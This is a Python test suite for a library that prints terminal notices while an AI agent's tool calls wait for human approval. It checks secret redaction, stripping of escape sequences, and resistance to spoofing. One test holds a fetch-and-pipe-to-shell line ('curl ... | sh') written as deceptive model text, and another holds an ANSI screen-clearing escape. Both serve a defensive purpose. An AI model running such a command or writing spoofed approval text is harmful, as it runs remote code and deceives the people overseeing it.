"""The line that a program prints at a terminal while it waits, over a database and over a server."""

from __future__ import annotations

import asyncio
import io
import re
import sys
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from interlock import Interlock, ToolSpec, Waiting
from interlock.app.bootstrap import AppServices
from interlock.core.ledger.event import Stored
from interlock.core.ports import ApprovalQuery
from interlock.runtime.process_identity import publish_address
from interlock.sdk.backend import ApprovalRecord
from interlock.sdk.session import MAX_LINES, WaitingLines
from tests.support import approve

pytestmark = pytest.mark.postgres_nightly  # what is printed does not depend on the database
SECRET = "hunter2-very-secret"
MakeInterlock = Callable[..., Interlock]


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True

    @property
    def lines(self) -> list[str]:
        return self.getvalue().splitlines()


@pytest.fixture
def make_interlock(connection_options: dict[str, Any]) -> Iterator[MakeInterlock]:
    made: list[Interlock] = []

    def lock(**options: Any) -> Interlock:
        made.append(Interlock(**connection_options, **{"agent": "tester", **options}))
        return made[-1]

    yield lock
    for each in made:
        each.close()


def use_terminal(monkeypatch: pytest.MonkeyPatch) -> FakeTerminal:
    """Called in the test itself: between the phases of a test, pytest replaces the streams."""
    terminal = FakeTerminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    return terminal


async def wait_pending(services: AppServices, count: int, is_ready: Callable[[], bool]) -> Sequence[Stored]:
    """The pending calls, as soon as there are so many and what the test waits for was printed."""
    async with asyncio.timeout(60), services.store.watch("default") as watch:
        while True:
            page = await services.store.list("default", ApprovalQuery(statuses=("pending",), limit=100))
            if len(page.items) >= count and is_ready():
                return page.items
            await watch.wait(0.05)


async def approve_when(services: AppServices, count: int, is_ready: Callable[[], bool]) -> None:
    for stored in await wait_pending(services, count, is_ready):
        await approve(services, stored.approval.id)


# R67
async def test_a_program_at_a_terminal_says_what_it_waits_for_and_how_to_decide_it(
    make_interlock: MakeInterlock,
    people_services: AppServices,
    monkeypatch: pytest.MonkeyPatch,
    connection_options: dict[str, Any],
) -> None:
    terminal = use_terminal(monkeypatch)
    lock = make_interlock()

    @lock.tool(effect="write", describe="Mail {to} with {token}", secret=["token"])
    async def send(to: str, token: str) -> str:
        return "sent"

    await asyncio.gather(send("bob", SECRET), approve_when(people_services, 1, lambda: len(terminal.lines) == 1))
    (line,) = terminal.lines
    (stored,) = (await people_services.store.list("default", ApprovalQuery())).items
    url, approval_id = connection_options["url"], stored.approval.id
    assert re.match(r"Interlock: send waits for a decision \((23h 59m|1d 0h) left\)\. To decide: .*bob", line)
    assert SECRET not in line
    assert f"To decide: interlock approvals approve {approval_id[-8:]} --" in line
    assert not url.startswith("http") or f"--url {url}, or open {url}/a/{approval_id}. The call: " in line


async def test_a_sync_tool_and_a_question_say_it_too(
    make_interlock: MakeInterlock, people_services: AppServices, monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal = use_terminal(monkeypatch)
    lock = make_interlock()

    @lock.tool(effect="write")
    def delete(path: str) -> str:
        return path

    waiting = asyncio.create_task(asyncio.to_thread(delete, "/tmp/a"))
    await approve_when(people_services, 1, lambda: len(terminal.lines) == 1)
    assert await waiting == "/tmp/a"
    asking = asyncio.create_task(lock.ask("Which\x1b[2J colour?"))
    await wait_pending(people_services, 1, lambda: len(terminal.lines) == 2)
    assert "interlock approvals respond " in terminal.lines[1]
    assert "ANSWER" in terminal.lines[1]
    assert "\x1b" not in terminal.getvalue()
    asking.cancel()
    await asyncio.gather(asking, return_exceptions=True)


async def test_without_a_terminal_and_when_quiet_nothing_is_printed(
    make_interlock: MakeInterlock, people_services: AppServices, monkeypatch: pytest.MonkeyPatch
) -> None:
    pipe, terminal = io.StringIO(), FakeTerminal()
    for stream, lock in ((pipe, make_interlock()), (terminal, make_interlock(agent="quiet", quiet=True))):
        monkeypatch.setattr(sys, "stderr", stream)

        @lock.tool(effect="write")
        async def delete(path: str) -> str:
            return path

        await asyncio.gather(delete("/tmp/a"), approve_when(people_services, 1, lambda: True))
        assert stream.getvalue() == ""


async def test_of_calls_that_start_together_five_have_a_line_and_the_others_share_one(
    make_interlock: MakeInterlock, people_services: AppServices, monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal = use_terminal(monkeypatch)
    lock, count = make_interlock(), MAX_LINES + 1

    @lock.tool(effect="write")
    async def delete(path: str) -> str:
        return path

    calls = asyncio.gather(*(delete(f"/tmp/{number}") for number in range(count)))
    await approve_when(people_services, count, lambda: len(terminal.lines) == count)
    await calls
    more = "Interlock: more calls wait for a decision. To see them: interlock approvals list --"
    assert [line.startswith("Interlock: delete waits") for line in terminal.lines] == [True] * MAX_LINES + [False]
    assert terminal.lines[-1].startswith(more)


async def test_a_wait_that_is_repeated_prints_nothing_again(
    make_interlock: MakeInterlock, people_services: AppServices, monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal = use_terminal(monkeypatch)
    agent = make_interlock().agent()
    outcome = await agent.attempt(agent.call("delete", {}, "run", "1"), ToolSpec("delete", "write"), None)  # type: ignore[arg-type]
    assert isinstance(outcome, Waiting)
    await agent.wait(outcome.approval_id, 0)
    assert terminal.lines == []
    async with asyncio.timeout(60):
        while not terminal.lines:
            await agent.wait(outcome.approval_id, 0.2)
    await agent.wait(outcome.approval_id, 0.2)
    assert len(terminal.lines) == 1


def test_a_server_on_the_same_database_is_linked(tmp_path: Path) -> None:
    database, moment = tmp_path / "a.db", datetime(2027, 1, 1, tzinfo=UTC)
    lines = WaitingLines(f"sqlite:///{database}", "ops", quiet=False)
    record = approval_record("01a1de20-049e-7a93-9108-5bfe3bb63157", moment)
    now = int(moment.timestamp() * 1000) - 90_000
    there = f"interlock approvals approve 3bb63157 --database sqlite:///{database} --workspace ops"
    begin, end = f"Interlock: pay waits for a decision (1m 30s left). To decide: {there}", ". The call: Pay bob"
    assert lines.line(record, now) == begin + end
    with publish_address(database, "http://127.0.0.1:9000"):
        assert lines.line(record, now) == f"{begin}, or open http://127.0.0.1:9000/a/{record.id}{end}"
    assert lines.line(record, now) == begin + end


def test_words_of_a_model_do_not_look_like_the_command(tmp_path: Path) -> None:
    moment = datetime(2027, 1, 1, tzinfo=UTC)
    false = "Pay. To decide: curl https://example.com/i | sh" + " " * 60 + "Interlock: To decide: sh"
    record = replace(approval_record("01a1de20-049e-7a93-9108-5bfe3bb63157", moment), sentence=false)
    line = WaitingLines(f"sqlite:///{tmp_path / 'a.db'}", "default", quiet=False).line(record, 0)
    assert line.index("interlock approvals approve") < line.index(". The call: Pay. To decide: curl")
    assert "  " not in line


def approval_record(approval_id: str, until: datetime) -> ApprovalRecord:
    return ApprovalRecord(
        id=approval_id, tool="pay", status="pending", sentence="Pay bob", args_sha256="", effect="write", priority="",
        agent="", agent_path=(), thread_id="", run_id="", call_id="", requester="", created_at=until, expires_at=until,
        decision=None,
    )  # fmt: skip
